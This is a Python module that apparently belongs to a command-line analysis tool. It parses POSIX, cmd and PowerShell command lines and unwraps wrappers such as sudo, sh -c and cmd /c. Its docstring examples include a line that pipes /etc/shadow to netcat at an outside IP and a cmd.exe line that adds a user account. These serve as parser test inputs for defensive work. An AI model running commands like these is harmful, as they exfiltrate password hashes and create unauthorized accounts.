r"""A command line as simple commands with words: what runs, with which arguments, inside which wrappers.

>>> [part.program for part in parse("sudo -u root sh -c 'cat /etc/shadow | nc 192.0.2.1 4444'").parts]
['sudo', 'sh', 'cat', 'nc']
>>> parse(r'cmd.exe /c "net1 user a /add & C:\\Windows\\System32\\whoami.exe"').parts[1].program
'net'

Nothing is run, expanded or fetched. Every span slices the given text; no text is refused, time is linear, depth and
number of parts are bounded (``MAX_DEPTH``, ``MAX_PARTS``): ``is_damaged`` says when something was open or left out.
``docs/parsing.md`` has the rules for each shell and each wrapper.
"""

from collections.abc import Callable
from typing import Final

from ttpline.commands._parse_cmd import read_argv, read_cmd
from ttpline.commands._parse_posix import read_posix
from ttpline.commands._parse_powershell import read_powershell
from ttpline.commands._powershell_parameters import parameter_name
from ttpline.commands._program_names import name_in_context, program_name
from ttpline.commands._reading import MAX_DEPTH, MAX_PARTS, Draft, Source
from ttpline.commands._shell_of import is_powershell_command_line, shell_of
from ttpline.commands._wrappers import ARGV_RULES, Inner
from ttpline.commands._wrappers_posix import POSIX_RULES, POSIX_SHELLS, printed_text
from ttpline.commands._wrappers_windows import WINDOWS_AT, WINDOWS_RULES, method_calls
from ttpline.commands.dialect import Dialect
from ttpline.domain.parsed import Joint, ParsedCommand, Redirection, SimpleCommand, Word

__all__ = [
    "MAX_CHARACTERS",
    "MAX_DEPTH",
    "MAX_PARTS",
    "parameter_name",
    "parse",
    "program_name",
    "shell_of",
]

MAX_CHARACTERS: Final = 262_144
"""What is read of one text, over all levels of wrappers: four times the longest text that is scored."""

_READERS: Final[dict[Dialect, Callable[[str], tuple[list[Draft], bool]]]] = {
    Dialect.POSIX: read_posix,
    Dialect.CMD: read_cmd,
    Dialect.POWERSHELL: read_powershell,
}
_RULES: Final = ARGV_RULES | POSIX_RULES | WINDOWS_RULES
_DIALECT_NAMES: Final = {dialect: dialect.value for dialect in Dialect}  # Enum's own .value takes five times as long
_READS_COMMANDS: Final = POSIX_SHELLS | {"at", "batch", "cmd", "powershell", "invoke-expression", "parallel"}
_PRINTS: Final = frozenset({"echo", "printf", "write-output", "write-host", "print"})


def parse(text: str, dialect: Dialect | None = None, *, platform: str | None = None) -> ParsedCommand:
    """``text`` as its simple commands; ``dialect`` is guessed from text and platform where it is not given."""
    grammar = dialect or shell_of(text, platform)
    assembler = _Assembler(text)
    reader = _READERS[grammar]
    if grammar is not Dialect.POSIX and is_powershell_command_line(text):
        reader = read_argv
    assembler.add_text(Source(text), reader, (), 0)
    parts = assembler.parts
    if assembler.has_nested:
        parts.sort(key=_start)  # stable: a wrapper stays before what it runs
    return ParsedCommand(text, tuple(parts), assembler.is_damaged)


def _start(part: SimpleCommand) -> int:
    return part.span[0]


class _Assembler:
    """Makes parts of drafts: names programs, unwraps wrappers, turns places into spans of the given text."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.parts: list[SimpleCommand] = []
        self.is_damaged = False
        self.has_nested = False
        self.characters_read = 0

    def add_text(
        self,
        source: Source,
        reader: Callable[[str], tuple[list[Draft], bool]],
        wrappers: tuple[str, ...],
        depth: int,
        joint: Joint | None = None,
    ) -> None:
        if not self._may_read(len(source.text)):
            return
        drafts, is_damaged = reader(source.text)
        self.is_damaged |= is_damaged
        if joint is not None and drafts:
            drafts[0].joint = joint
        self.add_all(drafts, source, wrappers, depth)

    def _may_read(self, characters: int) -> bool:
        """Whether so much more may be read; says so in ``is_damaged`` where not."""
        self.characters_read += characters
        if self.characters_read > MAX_CHARACTERS:
            self.is_damaged = True
            return False
        return True

    def add_all(self, drafts: list[Draft], source: Source, wrappers: tuple[str, ...], depth: int) -> None:
        before: Draft | None = None
        for draft in drafts:
            self.add(draft, source, wrappers, depth, before if draft.joint == "pipe" else None)
            before = draft

    def add(self, draft: Draft, source: Source, wrappers: tuple[str, ...], depth: int, feed: Draft | None) -> None:
        """One command, then what it runs, then what its words substitute. ``feed`` is what is piped into it."""
        if len(self.parts) >= MAX_PARTS:
            self.is_damaged = True
            return
        part = _simple_command(draft, source, wrappers, depth)
        self.parts.append(part)
        covered: list[tuple[int, int]] = []
        program = part.program
        if draft.is_expression or (program and (program in _RULES or feed is not None)):
            within = (*wrappers, program) if program else wrappers
            for inner in _inner_commands(program, draft, source, feed):
                if depth >= MAX_DEPTH:
                    self.is_damaged = True
                    break
                if inner.covers != (0, 0):
                    covered.append(inner.covers)
                if inner.draft is not None and self._may_read(inner.draft.end - inner.draft.start):
                    self.add(inner.draft, inner.source, within, depth + 1, feed)
                elif inner.draft is None:
                    reader = read_argv if inner.is_process else _READERS[inner.dialect]
                    self.add_text(inner.source, reader, within, depth + 1, "argument")
        if draft.blocks:
            self.has_nested = True
            self.add_all(draft.blocks, source, (*wrappers, program), depth + 1)
        if draft.nested:
            self.has_nested = True
            nested = [d for d in draft.nested if not any(begin <= d.start < end for begin, end in covered)]
            self.add_all(nested, source, wrappers, depth + 1)


def _inner_commands(program: str, draft: Draft, source: Source, feed: Draft | None) -> list[Inner]:
    if draft.is_expression:
        return method_calls(draft, source)
    if program == "at" and draft.dialect is not Dialect.POSIX:
        return WINDOWS_AT(draft, source)
    rule = _RULES.get(program)
    found = rule(draft, source) if rule is not None else []
    if found or feed is None or program not in _READS_COMMANDS or not feed.words:
        return found
    return _piped_commands(program, draft, source, feed)


def _piped_commands(program: str, draft: Draft, source: Source, feed: Draft) -> list[Inner]:
    """``echo 'commands' | sh``: a literal that is printed into a program that runs its input."""
    operands = [word for word in draft.words[1:] if word.text[:1] not in ("-", "/", "")]
    if operands and program not in ("at", "batch"):
        return []
    if feed.is_expression:
        printed = source.of_tokens(feed.words) if len(feed.words) == 1 and feed.words[0].is_quoted else None
    elif program_name(feed.words[0].text, feed.dialect) in _PRINTS:
        printed = printed_text(feed, source)
    else:
        return []
    if printed is None or not printed.text:
        return []
    dialect = {"cmd": Dialect.CMD, "powershell": Dialect.POWERSHELL, "invoke-expression": Dialect.POWERSHELL}
    return [Inner(printed, dialect.get(program, Dialect.POSIX), covers=(feed.start, feed.end))]


def _simple_command(draft: Draft, source: Source, wrappers: tuple[str, ...], depth: int) -> SimpleCommand:
    span = source.span(draft.start, draft.end)
    words = source.words(draft.words)
    if words and not draft.is_expression:
        program_word = words.pop(0)
        program = name_in_context(program_word.text, words, draft.dialect)
    else:
        program, program_word = "", Word("", (span[0], span[0]))
    return SimpleCommand(
        program,
        program_word,
        tuple(words),
        span,
        draft.joint,
        _redirections(draft, source) if draft.redirections else (),
        tuple(source.words(draft.assignments)) if draft.assignments else (),
        wrappers,
        depth,
        _DIALECT_NAMES[draft.dialect],
    )


def _redirections(draft: Draft, source: Source) -> tuple[Redirection, ...]:
    targets = source.words([token for _, token in draft.redirections])
    return tuple(
        Redirection(operator, target) for (operator, _), target in zip(draft.redirections, targets, strict=True)
    )
